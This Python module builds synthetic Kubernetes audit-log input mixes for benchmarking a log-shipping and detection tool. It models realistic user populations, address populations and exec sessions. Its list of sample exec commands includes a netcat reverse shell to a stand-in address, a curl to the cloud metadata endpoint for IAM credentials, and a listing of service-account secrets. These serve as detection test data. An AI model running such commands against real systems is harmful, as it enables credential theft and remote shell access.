"""The benchmark's input mixes: the same agent, four kinds of audit log, so that no one generator flatters it.

* ``default``: the demo's `AuditEventGenerator` as it is (a control plane's size and level mix: 83 % small
  Metadata events, Request bodies, RequestResponse objects with managedFields), mean ~1.7 KB. Its identities
  and addresses are few (28 users, a few hundred source IPs): every per-user and per-address cache hits.
* ``diverse``: the same families and sizes, but each event's user and source addresses are redrawn from large
  populations (tens of thousands of service accounts, nodes, people, cloud identities; a long tail of public and
  private IPv4/IPv6 addresses, some behind a proxy), 3 % impersonation, 2 % exec/attach/portforward sessions
  with varied commands: caches keyed by user or address miss as often as they would on a large cluster.
* ``metadata``: small events only (Metadata level, no bodies; 5 % exec sessions at Request level), with the
  identities and addresses of ``diverse``, mean ~1 KB: the most per-event work per byte, nothing to trim.
* ``real``: the 330 real events of tests/data/real-audit (see its SOURCES.md), cycled, each copy with its own
  auditID: v1beta1 events, fixture events lacking fields, odd timestamps, third-party fields (the lenient
  decode path), many rule hits for detection.

Every mix is deterministic given the seed (the same bytes for the same seed and size). Redrawn values come
from log-uniform ranks over each population: a head of frequent identities (the node agents, controllers) and
a long tail seen a few times each, as in a real log.
"""

from __future__ import annotations

import hashlib
import itertools
import math
import random
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import msgspec

from kube_audit_shipper.demo.events import AuditEventGenerator, EventMix

MIXES = ("default", "diverse", "metadata", "real")
DEFAULT_MIX = "default"

_SERVICE_ACCOUNTS = 30_000
_NODES = 5_000
_PEOPLE = 10_000
_CLOUD_IDENTITIES = 2_000
_ADDRESSES = 1 << 20  # the long tail of client addresses
_NAMESPACES = 3_000

_COMMANDS = (
    ("sh", "-c", "ls -la /var/run/secrets/kubernetes.io/serviceaccount"),
    ("/bin/bash",),
    ("sh",),
    ("cat", "/etc/resolv.conf"),
    ("env",),
    ("sh", "-c", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("python3", "-c", "import os; print(os.environ)"),
    ("tar", "cf", "-", "/data"),
    ("psql", "-U", "postgres", "-c", "select 1"),
    ("nc", "-e", "/bin/sh", "203.0.113.7", "4444"),
)


def _log_uniform(rnd: Any, size: int) -> int:
    """A rank in [0, size): rank r has probability ~ 1/r (a Zipf-like head and a long tail)."""
    return min(size - 1, int(math.exp(rnd() * math.log(size + 1))) - 1)


def _hashed(kind: str, index: int) -> int:
    return int.from_bytes(hashlib.blake2b(f"{kind}:{index}".encode(), digest_size=8).digest(), "big")


def _tail_address(index: int) -> str:
    """Address `index` of the long tail: public and private, IPv4 and IPv6, CGNAT, IPv4-mapped."""
    h = _hashed("ip", index)
    kind = h % 100
    a, b, c, d = (h >> 8) & 0xFF, (h >> 16) & 0xFF, (h >> 24) & 0xFF, (h >> 32) & 0xFF
    if kind < 45:  # public IPv4 (first octets of large public allocations)
        return f"{(2, 5, 31, 34, 37, 46, 52, 62, 77, 81, 85, 91, 103, 116, 185, 212)[a % 16]}.{b}.{c}.{1 + d % 254}"
    if kind < 60:  # public IPv6
        return f"2a01:4f8:{h >> 40 & 0xFFFF:x}:{a:x}{b:02x}::{c:x}{d:02x}"
    if kind < 75:
        return f"10.{a}.{b}.{1 + c % 254}"
    if kind < 82:
        return f"172.{16 + a % 16}.{b}.{1 + c % 254}"
    if kind < 88:
        return f"100.{64 + a % 64}.{b}.{1 + c % 254}"  # CGNAT: cloud VPCs, pod networks
    if kind < 93:
        return f"fd{a:02x}:{b:x}{c:02x}::{1 + d}"
    if kind < 97:
        return f"::ffff:{(203, 198, 45)[a % 3]}.{b}.{c}.{1 + d % 254}"  # IPv4-mapped
    return f"192.168.{a}.{1 + b % 254}"


class _Population:
    """Users and client addresses of a large cluster, drawn per event."""

    def __init__(self, seed: int) -> None:
        self._rnd = random.Random(seed * 7919 + 17).random

    def namespace(self) -> str:
        return f"team-{_log_uniform(self._rnd, _NAMESPACES)}"

    def node(self) -> tuple[dict[str, Any], str]:
        i = _log_uniform(self._rnd, _NODES)
        user = {"username": f"system:node:node-{i:05d}.pool-{i % 40}.internal", "groups": ["system:nodes", "system:authenticated"]}
        return user, f"10.{64 + i // 65536}.{i // 256 % 256}.{1 + i % 254}"

    def service_account(self) -> tuple[dict[str, Any], str]:
        i = _log_uniform(self._rnd, _SERVICE_ACCOUNTS)
        ns = f"team-{i % _NAMESPACES}"
        user = {
            "username": f"system:serviceaccount:{ns}:sa-{i}",
            "uid": f"{_hashed('sa', i):016x}-0000-4000-8000-{i:012d}",
            "groups": ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"],
        }
        h = _hashed("pod", i)
        return user, f"100.{64 + h % 64}.{h >> 8 & 0xFF}.{1 + (h >> 16) % 254}"

    def person(self) -> tuple[dict[str, Any], list[str]]:
        rnd = self._rnd
        i = _log_uniform(rnd, _PEOPLE + _CLOUD_IDENTITIES)
        if i < _PEOPLE:
            name = f"user{i}@corp.example.com" if i % 3 else f"oidc:https://login.example.com#{_hashed('sub', i):x}"
            user = {"username": name, "groups": [("developers", "sre", "data", "oncall")[i % 4], "system:authenticated"]}
        else:
            j = i - _PEOPLE
            user = {
                "username": f"arn:aws:sts::{100000000000 + j}:assumed-role/eks-admin/session-{j}",
                "uid": f"aws-iam-authenticator:{100000000000 + j}:AROA{_hashed('aro', j):X}",
                "groups": ["system:authenticated"],
            }
        first = _tail_address(_log_uniform(rnd, _ADDRESSES)) if rnd() < 0.6 else f"10.8.{int(rnd() * 4)}.{2 + int(rnd() * 253)}"
        addresses = [first]
        if rnd() < 0.25:  # through a load balancer: X-Forwarded-For, then the peer
            addresses.append(f"10.0.0.{2 + int(rnd() * 28)}")
        return user, addresses

    def command(self) -> tuple[str, ...]:
        rnd = self._rnd
        argv = _COMMANDS[int(rnd() * len(_COMMANDS))]
        if rnd() < 0.3:
            argv = (*argv[:-1], f"{argv[-1]} # {int(rnd() * 1_000_000)}")  # one of a kind
        return argv


def _redraw(event: dict[str, Any], people: _Population, rnd: Any) -> None:
    """Give `event` an identity and addresses from the large population, keeping its kind of actor."""
    user = event.get("user") or {}
    name = user.get("username", "")
    event.pop("impersonatedUser", None)
    if name.startswith("system:node:"):
        new_user, address = people.node()
        addresses = [address]
    elif name.startswith("system:serviceaccount:"):
        new_user, address = people.service_account()
        addresses = [address]
    elif name.startswith("system:"):  # control-plane components and anonymous probes stay who they are
        return
    else:
        new_user, addresses = people.person()
        if rnd() < 0.03:
            event["impersonatedUser"] = {"username": new_user["username"], "groups": new_user["groups"]}
            new_user = {"username": "kubernetes-admin", "groups": ["system:masters", "system:authenticated"]}
    # keep the field order: user, impersonatedUser, sourceIPs as the apiserver writes them
    rebuilt: dict[str, Any] = {}
    for key, value in event.items():
        if key == "user":
            rebuilt["user"] = new_user
            if "impersonatedUser" in event:
                rebuilt["impersonatedUser"] = event["impersonatedUser"]
        elif key == "sourceIPs":
            rebuilt["sourceIPs"] = addresses
        elif key != "impersonatedUser":
            rebuilt[key] = value
    event.clear()
    event.update(rebuilt)


def _exec_query(argv: tuple[str, ...], container: str) -> str:
    return "&".join("command=" + quote(arg, safe="") for arg in argv) + f"&container={container}&stdin=true&stdout=true&tty=true"


def _diversified(seed: int, mix: EventMix) -> Iterator[bytes]:
    gen = AuditEventGenerator(seed, mix=mix)
    people = _Population(seed)
    rnd = random.Random(seed * 104729 + 3).random
    decode, encode = msgspec.json.decode, msgspec.json.Encoder().encode
    while True:
        event = decode(gen.line())
        _redraw(event, people, rnd)
        ref = event.get("objectRef") or {}
        if ref.get("subresource") == "exec":
            uri = event["requestURI"].partition("?")[0]
            event["requestURI"] = uri + "?" + _exec_query(people.command(), "app")
        yield encode(event)


def _real(seed: int) -> Iterator[bytes]:
    from tests.support.corpus import corpus_lines

    decode, encode = msgspec.json.decode, msgspec.json.Encoder().encode
    events = [decode(line) for line in corpus_lines()]
    for number, event in zip(itertools.count(), itertools.cycle(events)):
        copy = dict(event)
        copy["auditID"] = f"real-{seed}-{number:010d}"
        yield encode(copy)


def mix_lines(mix: str, seed: int) -> Iterator[bytes]:
    """An endless stream of event lines (no newlines) of `mix`, deterministic given `seed`."""
    if mix == "default":
        gen = AuditEventGenerator(seed)
        return iter(gen.line, None)
    if mix == "diverse":
        return _diversified(seed, EventMix(connect=0.02, impersonation_rate=0.0))
    if mix == "metadata":
        return _diversified(seed, EventMix(metadata=0.95, request=0.0, request_response=0.0, connect=0.05, big_event_probability=0.0))
    if mix == "real":
        return _real(seed)
    raise ValueError(f"unknown mix {mix!r}; known: {', '.join(MIXES)}")


def describe(mix: str) -> str:
    """One line on what a mix is (for the tables)."""
    return {
        "default": "demo generator: control-plane mix, few identities",
        "diverse": "same families, 40k+ users, 1M-address tail, exec 2 %",
        "metadata": "small Metadata events, diverse users/addresses, exec 5 %",
        "real": "tests/data/real-audit cycled, unique auditIDs",
    }[mix]


__all__ = ["DEFAULT_MIX", "MIXES", "describe", "mix_lines"]
